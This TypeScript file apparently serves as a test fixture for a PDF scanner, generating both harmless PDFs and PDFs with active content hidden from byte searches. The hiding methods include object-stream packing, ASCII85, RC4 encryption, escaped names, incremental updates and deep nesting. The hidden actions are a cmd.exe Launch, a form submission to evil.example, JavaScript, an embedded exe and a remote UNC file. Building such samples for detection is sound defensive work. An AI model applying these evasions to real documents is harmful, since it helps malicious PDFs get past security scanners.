import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import type { Sample } from './attack-images.ts';
import { type Entry, plainPdf, streamedPdf } from './attack-pdfs.ts';

/** Of ISO 32000-1, 7.5.7: the objects by their numbers. */
type Objects = Readonly<Record<number, string>>;

const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>';
/** A document of one page, whose catalogue and page may say more. */
const documentOf = (catalogue: string, ofPage = ''): Objects => ({
  1: `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
  2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  3: page.replace(' >>', ` ${ofPage} >>`),
});
const streamOf = (head: string, data: Buffer) =>
  Buffer.concat([
    Buffer.from(`<< ${head} /Length ${data.length} >>\nstream\n`),
    data,
    Buffer.from('\nendstream'),
  ]);

/** Adobe's 85 signs for four bytes (ISO 32000-1, 7.4.3). */
function ascii85(bytes: Buffer): Buffer {
  let text = '';
  for (let at = 0; at < bytes.length; at += 4) {
    const some = bytes.subarray(at, at + 4);
    let value = Buffer.concat([some, Buffer.alloc(4 - some.length)]).readUInt32BE();
    const signs = [0, 1, 2, 3, 4].map(() => {
      const sign = String.fromCharCode(33 + (value % 85));
      value = Math.floor(value / 85);
      return sign;
    });
    text += signs
      .reverse()
      .slice(0, some.length + 1)
      .join('');
  }
  return Buffer.from(`${text}~>`);
}

type Packing = {
  filter?: string;
  pack?: (text: Buffer) => Buffer;
  trailer?: string;
  plain?: ReadonlyMap<number, Buffer>;
};

function objectStream(objects: Objects, { filter = '/FlateDecode', pack = deflateSync }: Packing): Buffer {
  let at = 0;
  const places = Object.entries(objects).map(([number, body]) => {
    const place = `${number} ${at}`;
    at += body.length + 1;
    return place;
  });
  const head = `${places.join(' ')}\n`;
  const packed = pack(Buffer.from(head + Object.values(objects).join('\n'), 'latin1'));
  return streamOf(`/Type /ObjStm /N ${places.length} /First ${head.length} /Filter ${filter}`, packed);
}

/** A PDF whose objects are all in one packed stream, its eighth object; those of `plain` are not. */
function packedPdf(objects: Objects, packing: Packing = {}): Buffer {
  const places = Object.keys(objects).map((number, index): [number, Entry] => [
    Number(number),
    [2, 8, index],
  ]);
  const { plain = new Map<number, Buffer>(), trailer } = packing;
  const written = new Map([...plain, [8, objectStream(objects, packing)]]);
  return streamedPdf(written, new Map(places), trailer ? { trailer } : {});
}

/** A plain PDF, behind whose end a packed stream puts another catalogue. */
function updatedPdf(catalogue: string): Buffer {
  const base = plainPdf(Object.values(documentOf('')));
  const previous = /startxref\n(\d+)/.exec(base.toString('latin1'))?.[1];
  const stream = Buffer.concat([
    Buffer.from('8 0 obj\n'),
    objectStream({ 1: documentOf(catalogue)[1] ?? '' }, {}),
    Buffer.from('\nendobj\n'),
  ]);
  const entry = (type: number, first: number) => {
    const bytes = Buffer.from([type, 0, 0, 0, 0, 0]);
    bytes.writeUInt32BE(first, 1);
    return bytes;
  };
  const start = base.length + stream.length;
  const data = Buffer.concat([entry(2, 8), entry(1, base.length), entry(1, start)]);
  const head = `/Type /XRef /Size 10 /W [1 4 1] /Index [1 1 8 2] /Root 1 0 R /Prev ${previous}`;
  const table = streamOf(head, data);
  return Buffer.concat([
    base,
    stream,
    Buffer.from('9 0 obj\n'),
    table,
    Buffer.from(`\nendobj\nstartxref\n${start}\n%%EOF\n`),
  ]);
}

function rc4(key: Buffer, bytes: Buffer): Buffer {
  const state = Array.from({ length: 256 }, (_, index) => index);
  const swap = (one: number, other: number) => {
    [state[one], state[other]] = [state[other] ?? 0, state[one] ?? 0];
  };
  let j = 0;
  for (let i = 0; i < 256; i += 1) {
    j = (j + (state[i] ?? 0) + (key[i % key.length] ?? 0)) % 256;
    swap(i, j);
  }
  let [i, k] = [0, 0];
  return bytes.map((byte) => {
    i = (i + 1) % 256;
    k = (k + (state[i] ?? 0)) % 256;
    swap(i, k);
    return byte ^ (state[((state[i] ?? 0) + (state[k] ?? 0)) % 256] ?? 0);
  }) as Buffer;
}

const padding = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');
const md5 = (...parts: Buffer[]) => createHash('md5').update(Buffer.concat(parts)).digest();

/**
 * A packed PDF that everybody can open, because its password is empty (ISO 32000-1, 7.6.3, revision 4).
 * @param strings filter of strings outside of streams; PDFium knows no other than that of streams
 */
function encryptedPdf(objects: Objects, strings = '/StdCF'): Buffer {
  const id = '0123456789abcdef';
  const owner = Buffer.alloc(32, 'o');
  let key: Buffer = md5(padding, owner, Buffer.from([0xfc, 0xff, 0xff, 0xff]), Buffer.from(id));
  for (let round = 0; round < 50; round += 1) key = md5(key);
  let user: Buffer = md5(padding, Buffer.from(id));
  for (let round = 0; round < 20; round += 1) user = rc4(key.map((byte) => byte ^ round) as Buffer, user);
  const [o, u] = [owner, Buffer.concat([user, Buffer.alloc(16)])].map((bytes) => bytes.toString('hex'));
  const filters = `/CF << /StdCF << /CFM /V2 /AuthEvent /DocOpen /Length 16 >> >> /StmF /StdCF /StrF ${strings}`;
  const encrypt = `<< /Filter /Standard /V 4 /R 4 /Length 128 /P -4 ${filters} /O <${o}> /U <${u}> >>`;
  const keyOfStream = md5(key, Buffer.from([8, 0, 0, 0, 0]));
  return packedPdf(objects, {
    pack: (text) => rc4(keyOfStream, deflateSync(text)),
    trailer: `/Encrypt 7 0 R /ID [(${id}) (${id})]`,
    plain: new Map([[7, Buffer.from(encrypt)]]),
  });
}

const launch = '<< /S /Launch /F (cmd.exe) >>';
const launching = documentOf(`/OpenAction ${launch}`);
const link = (action: string) => `/Annots [<< /Subtype /Link /Rect [0 0 9 9] /Border [0 0 0] ${action} >>]`;
const packed = (catalogue: string, ofPage = '', more: Objects = {}) =>
  packedPdf({ ...documentOf(catalogue, ofPage), ...more });
const nested = (depth: number) =>
  `${'<< /S /GoTo /D [3 0 R /Fit] /Next '.repeat(depth)}${launch}${' >>'.repeat(depth)}`;

const twice = {
  filter: '[/ASCII85Decode /FlateDecode]',
  pack: (text: Buffer) => ascii85(deflateSync(text)),
};
const sending = '<< /S /SubmitForm /F (http://evil.example/) >>';
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const rendition = '<< /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>';

/** PDFs whose actions no search of their bytes finds. */
export const packedActivePdfs: readonly Sample[] = [
  { name: 'a packed program', make: () => packedPdf(launching) },
  { name: 'a program packed twice', make: () => packedPdf(launching, twice) },
  {
    name: 'a packed program under an escaped name',
    make: () => packed('/OpenAction << /S /L#61unch /F (x) >>'),
  },
  { name: 'a program in an update', make: () => updatedPdf(`/OpenAction ${launch}`) },
  { name: 'an encrypted program', make: () => encryptedPdf(launching) },
  {
    name: 'an encrypted program that PDFium does not decrypt',
    make: () => encryptedPdf(launching, '/Identity'),
  },
  { name: 'a program far below', make: () => packed(`/OpenAction ${nested(40)}`) },
  { name: 'a program below all that a reader follows', make: () => packed(`/OpenAction ${nested(400)}`) },
  {
    name: 'a program by way of others',
    make: () => packed('/OpenAction 5 0 R', '', { 5: '6 0 R', 6: launch }),
  },
  {
    name: 'a program whose number is too high for PDFium',
    make: () => packed('/OpenAction 5000000 0 R', '', { 5000000: launch }),
  },
  {
    name: 'a program by way of such a number',
    make: () => packed('', link('/A 5 0 R'), { 5: '<< /S /GoTo /Next 4194304 0 R >>', 4194304: launch }),
  },
  { name: 'a program when a page opens', make: () => packed('', `/AA << /O ${launch} >>`) },
  { name: 'a form that sends itself on closing', make: () => packed(`/AA << /WC ${sending} >>`) },
  { name: 'a form that sends itself by a link', make: () => packed('', link(`/A ${sending}`)) },
  { name: 'a script of a link that is entered', make: () => packed('', link(`/AA << /E ${script} >>`)) },
  { name: 'a script of a film', make: () => packed('', link(`/A ${rendition}`)) },
  { name: 'data that a button imports', make: () => packed('', link('/A << /S /ImportData /F (x.fdf) >>')) },
  {
    name: 'another file that is opened',
    make: () => packed('', link('/A << /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) >>')),
  },
  {
    name: 'a form with a program of its own',
    make: () => packed('/AcroForm << /Fields [] /XFA (<xdp/>) >>'),
  },
  {
    name: 'a file in a packed list',
    make: () => packed('/Names << /EmbeddedFiles << /Names [(x) << /Type /Filespec /F (x.exe) >>] >> >>'),
  },
  { name: 'a scene with a script', make: () => packed('', link('/3DD 5 0 R').replace('/Link', '/3D')) },
];

const uri = '<< /S /URI /URI (https://banka.example/Launch) >>';
const scan = streamOf(
  '/Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode',
  Buffer.from('/JS /3D /XFA (stream\r\n'),
);
const field = '<< /FT /Tx /T (Ad) /V (Zeynep \\) /JavaScript /JS) >>';

/** What ordinary documents hold: links, outlines, forms, scans; none of it acts on its own. */
export const harmlessPdfs: readonly Sample[] = [
  { name: 'a link', make: () => packed('', link(`/A ${uri}`)) },
  { name: 'a document that opens at its width', make: () => packed('/OpenAction [3 0 R /FitH 99]') },
  {
    name: 'a page that turns to another',
    make: () => packed('', '/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>'),
  },
  { name: 'a form that is filled in', make: () => packed(`/AcroForm << /Fields [${field}] >>`) },
  {
    name: 'a text about scripts',
    make: () =>
      packed('/Outlines 5 0 R', '', {
        5: '<< /First 6 0 R /Last 6 0 R >>',
        6: '<< /Title (\\\\\\(see /JavaScript, /Launch) /Parent 5 0 R >>',
      }),
  },
  { name: 'names that only begin alike', make: () => packed('/PieceInfo << /JSX 1 /LaunchDate 2 /3DX 3 >>') },
  {
    name: 'a scan whose bytes happen to be names',
    make: () => packedPdf(documentOf('', '/Thumb 7 0 R'), { plain: new Map([[7, scan]]) }),
  },
  { name: 'a statement that may not be changed', make: () => encryptedPdf(documentOf('')) },
];
